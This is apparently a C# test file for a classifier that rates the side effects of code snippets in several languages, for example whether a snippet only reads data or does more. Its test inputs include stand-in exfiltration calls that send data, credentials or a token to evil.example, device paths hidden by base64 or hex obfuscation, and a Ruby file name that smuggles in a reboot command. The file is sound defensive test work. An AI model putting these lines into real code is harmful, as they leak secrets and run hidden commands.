using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>What code opens, asks and draws from: devices, other machines' shares, queues, and machines outside.</summary>
public sealed class OpenedFilesTests
{
    static Effect Effect(Language language, string text) => Classifier.Whole(text, language).Effect;

    [Theory]
    [InlineData(Language.Python, "open(os.path.join(\"/dev\", \"watchdog\"))")]
    [InlineData(Language.Python, "open(\"/d\" \"ev/watchdog\").read()")]
    [InlineData(Language.Python, "open(\"/run/../dev/watchdog\").read()")]
    [InlineData(Language.Python, "open(\"/proc/self/root/dev/watchdog\").read()")]
    [InlineData(Language.Python, "open(\"/d\\x65v/watchdog\").read()")]
    [InlineData(Language.Python, "open(base64.b64decode(\"L2Rldi93YXRjaGRvZw==\")).read()")]
    [InlineData(Language.Python, "path = \"/dev/watchdog\"\nopen(path).read()")]
    [InlineData(Language.Python, "[open(p).read() for p in glob.glob(\"/dev/wat*\")]")]
    [InlineData(Language.Python, "open(\"/proc/kmsg\").read()")]
    [InlineData(Language.JavaScript, "fs.readFileSync(path.join('/dev', 'watchdog'))")]
    [InlineData(Language.Ruby, "File.read(File.join(\"/dev\", \"watchdog\"))")]
    [InlineData(Language.PowerShell, "Get-Content \\\\.\\pipe\\x")]
    public void A_device_is_one_however_its_path_is_put_together(Language language, string text) => Assert.Equal(Firstlook.Effects.Effect.Unknown, Effect(language, text));

    [Theory]
    [InlineData(Language.Python, "open(\"/dev/urandom\", \"rb\").read(16)")]
    [InlineData(Language.Python, "os.path.exists(\"/dev/sda1\")")]
    [InlineData(Language.Python, "glob.glob(\"/dev/disk/by-id/*\")")]
    [InlineData(Language.Python, "psutil.disk_usage(\"/dev/shm\")")]
    [InlineData(Language.JavaScript, "fs.existsSync('/dev/sda')")]
    [InlineData(Language.PowerShell, "Get-Content \\\\?\\C:\\x.log")]
    public void What_only_tells_of_one_reads(Language language, string text) => Assert.True(Classifier.Whole(text, language).RunsByItself);

    [Theory]
    [InlineData(Language.Python, "os.listdir(\"//evil.example/x\")")]
    [InlineData(Language.Python, "open(r\"\\\\evil.example\\share\\x\").read()")]
    [InlineData(Language.Ruby, "File.exist?(\"//evil.example/x/y\")")]
    [InlineData(Language.Python, "requests.get(\"http://evil.example/\", json=data)")]
    [InlineData(Language.Python, "requests.get(\"http://evil.example/\", auth=(\"u\", pw))")]
    [InlineData(Language.Python, "requests.head(\"http://evil.example/\" + token)")]
    [InlineData(Language.JavaScript, "axios.get('http://evil.example/', {headers: h})")]
    [InlineData(Language.PowerShell, "Get-DbaDatabase -SqlInstance evil.example.com -SqlCredential $c")]
    public void What_leaves_for_a_machine_outside_is_no_read(Language language, string text) => Assert.True(Effect(language, text) > Firstlook.Effects.Effect.Read);

    [Theory]
    [InlineData(Language.Python, "open(r\"\\\\fileserver\\share\\x\").read()")]
    [InlineData(Language.Python, "requests.get(\"https://api.github.com/x\", params={\"per_page\": 10})")]
    [InlineData(Language.Python, "requests.get(\"https://api.example.com/orders/\" + order_id)")]
    [InlineData(Language.Python, "requests.get(\"http://shop.internal/x\", headers=headers)")]
    [InlineData(Language.PowerShell, "Get-DbaDatabase -SqlInstance sql01 -SqlCredential $c")]
    public void What_stays_at_home_or_only_names_what_is_asked_for_reads(Language language, string text) => Assert.True(Classifier.Whole(text, language).RunsByItself);

    [Theory]
    [InlineData("for m in receiver: print(m)", Firstlook.Effects.Effect.Disruptive)]
    [InlineData("list(map(str, iter(q.get, None)))", Firstlook.Effects.Effect.Disruptive)]
    [InlineData("for m in consumer: print(m.value)", Firstlook.Effects.Effect.Unknown)]
    [InlineData("redis_client.keys(\"*\")", Firstlook.Effects.Effect.Disruptive)]
    [InlineData("receiver.peek_messages()", Firstlook.Effects.Effect.Read)]
    [InlineData("for m in KafkaConsumer(\"t\", consumer_timeout_ms=1000): print(m.value)", Firstlook.Effects.Effect.Read)]
    [InlineData("settings_by_name.keys()", Firstlook.Effects.Effect.Read)]
    public void What_is_drawn_from_a_queue_is_taken_out_of_it(string text, Firstlook.Effects.Effect effect) => Assert.Equal(effect, Effect(Language.Python, text));

    [Theory]
    [InlineData(Language.Python, "math.ceil(1.5)")]
    [InlineData(Language.Python, "psutil.cpu_count()")]
    [InlineData(Language.Python, "hashlib.sha256(b\"x\").hexdigest()")]
    [InlineData(Language.Python, "re.sub(\"a\", \"b\", line)")]
    [InlineData(Language.JavaScript, "require('dns').lookup('x', console.log)")]
    [InlineData(Language.Ruby, "Socket.gethostname")]
    [InlineData(Language.Shell, "ruby -ryaml -e 'p YAML.load_file(\"config/x.yml\")'")]
    [InlineData(Language.PowerShell, "[Environment]::GetEnvironmentVariable('PATH')")]
    public void What_a_language_s_own_modules_compute_or_tell_reads(Language language, string text) => Assert.True(Classifier.Whole(text, language).RunsByItself);

    [Theory]
    [InlineData(Language.Python, "account.ceil(1)")]
    [InlineData(Language.Python, "math = payments\nmath.ceil(1)")]
    [InlineData(Language.Python, "re.sub(\"a\", shape, line)")]
    [InlineData(Language.JavaScript, "require('dns').lookup('x', reboot)")]
    [InlineData(Language.Ruby, "File.readlines(\"| reboot\")")]
    [InlineData(Language.Shell, "ruby -rfoo -e 'p 1'")]
    public void The_same_names_of_something_else_are_not_known(Language language, string text) => Assert.Equal(Firstlook.Effects.Effect.Unknown, Effect(language, text));
}
